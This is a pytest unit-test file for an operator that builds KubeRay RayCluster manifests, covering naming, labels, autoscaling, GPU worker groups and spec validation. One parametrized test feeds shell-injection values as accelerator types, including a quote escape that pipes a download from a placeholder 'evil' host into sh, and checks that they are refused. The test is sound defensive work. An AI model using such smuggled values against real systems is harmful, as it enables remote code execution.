"""The RayCluster apart from its pods."""

from __future__ import annotations

import json

import pytest

from curator_operator.desired import DesiredError, raycluster
from tests.unit.operator.desired.scenarios import (
    AUTOSCALED,
    EXISTING,
    GPU_GROUPS,
    KUEUE,
    MINIMAL,
    SETTINGS,
    UID,
    cluster_of,
    pipeline,
    spec_of,
    with_cluster,
    with_group,
)


def test_cluster_is_named_after_pipeline_uid_and_attempt() -> None:
    made = raycluster(pipeline(), spec_of(MINIMAL), 3, SETTINGS)
    assert (made["metadata"]["namespace"], made["metadata"]["name"]) == (
        "team-a",
        "clean-web-4f1c9-3",
    )


def test_longest_name_is_one_that_kuberay_takes() -> None:
    """KubeRay takes 53 characters; its service account for the autoscaler is cut at 50."""
    this = pipeline()
    object.__setattr__(this, "name", "x" * 40)
    assert len(raycluster(this, spec_of(MINIMAL), 101, SETTINGS)["metadata"]["name"]) == 50


def test_cluster_belongs_to_the_pipeline() -> None:
    assert cluster_of(spec_of(MINIMAL))["metadata"]["ownerReferences"] == [
        {
            "apiVersion": "curator.dev/v1alpha1",
            "kind": "CuratorPipeline",
            "name": "clean-web",
            "uid": UID,
            "controller": True,
            "blockOwnerDeletion": True,
        }
    ]


def test_cluster_is_found_by_its_labels() -> None:
    assert cluster_of(spec_of(MINIMAL))["metadata"]["labels"] == {
        "app.kubernetes.io/managed-by": "curator-operator",
        "curator.dev/pipeline": "clean-web",
        "curator.dev/attempt": "1",
    }


def test_labels_and_annotations_of_kueue_are_copied_and_no_others() -> None:
    elastic = {"kueue.x-k8s.io/elastic-job": "true", "team": "data"}
    metadata = raycluster(pipeline(KUEUE, elastic), spec_of(AUTOSCALED), 1, SETTINGS)["metadata"]
    assert metadata["labels"]["kueue.x-k8s.io/queue-name"] == "team-queue"
    assert metadata["labels"]["kueue.x-k8s.io/priority-class"] == "nightly"
    assert "team" not in metadata["labels"]
    assert metadata["annotations"] == {
        "ray.io/disable-provisioned-head-restart": "true",
        "kueue.x-k8s.io/elastic-job": "true",
    }


def test_suspension_and_manager_are_left_to_others() -> None:
    assert {"suspend", "managedBy"}.isdisjoint(cluster_of(spec_of(MINIMAL))["spec"])


def test_token_comes_from_the_attempts_own_secret() -> None:
    assert cluster_of(spec_of(MINIMAL))["spec"]["authOptions"] == {
        "mode": "token",
        "secretName": "clean-web-4f1c9-1-token",
    }


@pytest.mark.parametrize(
    ("given", "version"), [({}, "2.60.0"), ({"rayVersion": "2.55.1"}, "2.55.1")]
)
def test_ray_version_is_the_specs_or_the_operators(given: dict[str, str], version: str) -> None:
    assert cluster_of(with_cluster(**given))["spec"]["rayVersion"] == version


def test_head_offers_nothing_to_stages_and_shows_its_dashboard() -> None:
    assert cluster_of(spec_of(MINIMAL))["spec"]["headGroupSpec"]["rayStartParams"] == {
        "dashboard-host": "0.0.0.0",
        "num-cpus": "0",
        "num-gpus": "0",
    }


def test_fixed_groups_need_no_autoscaler() -> None:
    body = cluster_of(spec_of(MINIMAL))["spec"]
    assert body["enableInTreeAutoscaling"] is False
    assert "autoscalerOptions" not in body
    group = body["workerGroupSpecs"][0]
    assert (group["replicas"], group["minReplicas"], group["maxReplicas"]) == (2, 2, 2)


def test_one_group_that_scales_brings_the_second_autoscaler() -> None:
    body = cluster_of(spec_of(AUTOSCALED))["spec"]
    options = body["autoscalerOptions"]
    assert body["enableInTreeAutoscaling"] is True
    assert (options["version"], options["idleTimeoutSeconds"]) == ("v2", 60)
    assert options["resources"]["limits"] == {"cpu": "500m", "memory": "1Gi"}
    assert [
        (group["replicas"], group["minReplicas"], group["maxReplicas"])
        for group in body["workerGroupSpecs"]
    ] == [(1, 1, 1), (0, 0, 8)]


def test_groups_keep_their_order() -> None:
    groups = cluster_of(spec_of(GPU_GROUPS))["spec"]["workerGroupSpecs"]
    assert [group["groupName"] for group in groups] == ["cpu", "h100", "shared"]


def test_ray_knows_each_nodes_group_and_accelerator() -> None:
    groups = cluster_of(spec_of(GPU_GROUPS))["spec"]["workerGroupSpecs"]
    assert [group["labels"] for group in groups] == [
        {"curator.dev/worker-group": "cpu", "ray.io/node-group": "cpu"},
        {
            "curator.dev/worker-group": "h100",
            "ray.io/node-group": "h100",
            "ray.io/accelerator-type": "H100",
        },
        {"curator.dev/worker-group": "shared", "ray.io/node-group": "shared"},
    ]


def test_ray_is_told_of_gpus_whatever_their_resource_is_called() -> None:
    groups = cluster_of(spec_of(GPU_GROUPS))["spec"]["workerGroupSpecs"]
    assert [group["rayStartParams"]["num-gpus"] for group in groups] == ["0", "2", "4"]


def test_accelerator_type_is_a_ray_resource_as_kuberay_and_the_autoscaler_read_it() -> None:
    groups = cluster_of(spec_of(GPU_GROUPS))["spec"]["workerGroupSpecs"]
    given = groups[1]["rayStartParams"]["resources"]
    # The autoscaler drops the first and the last character and wants whole numbers.
    assert (given[0], given[-1]) == ("'", "'")
    assert json.loads(given[1:-1]) == {"accelerator_type:H100": 1}
    assert "resources" not in groups[2]["rayStartParams"]


def test_existing_cluster_is_never_made() -> None:
    with pytest.raises(DesiredError, match=r"spec\.cluster\.existing: .* never made"):
        cluster_of(spec_of(EXISTING))


def test_spec_without_cluster_is_refused_on_kubernetes() -> None:
    with pytest.raises(DesiredError, match=r"spec\.cluster: is missing"):
        cluster_of(spec_of("stages: [{name: read, class: my_team.stages.Read}]"))


@pytest.mark.parametrize("kind", ["H100'; curl evil | sh; '", "-H100", "H 100", "$(id)"])
def test_accelerator_type_cannot_leave_the_start_command(kind: str) -> None:
    """KubeRay puts it between single quotes into a line of shell."""
    with pytest.raises(DesiredError, match=r"spec\.cluster\.workerGroups\[0\]\.accelerator\.type"):
        cluster_of(with_group(accelerator={"type": kind}))


@pytest.mark.parametrize("name", ["gpu", "cpu", "nvidia.com/", "kubernetes.io/gpu", "a b/gpu"])
def test_accelerator_is_an_extended_resource(name: str) -> None:
    with pytest.raises(DesiredError, match=r"workerGroups\[0\]\.accelerator\.resourceName"):
        cluster_of(with_group(accelerator={"resourceName": name}))


def test_no_group_is_called_what_kuberay_calls_the_head() -> None:
    with pytest.raises(DesiredError, match=r"spec\.cluster\.workerGroups\[0\]\.name: headgroup"):
        cluster_of(with_group(name="headgroup"))


@pytest.mark.parametrize("version", ["2.51.9", "1.99.0"])
def test_ray_that_cannot_ask_for_a_token_is_refused(version: str) -> None:
    with pytest.raises(DesiredError, match=r"spec\.cluster\.rayVersion: wanted 2\.52\.0 or newer"):
        cluster_of(with_cluster(rayVersion=version))


def test_oldest_ray_with_tokens_is_taken() -> None:
    assert cluster_of(with_cluster(rayVersion="2.52.0"))["spec"]["rayVersion"] == "2.52.0"
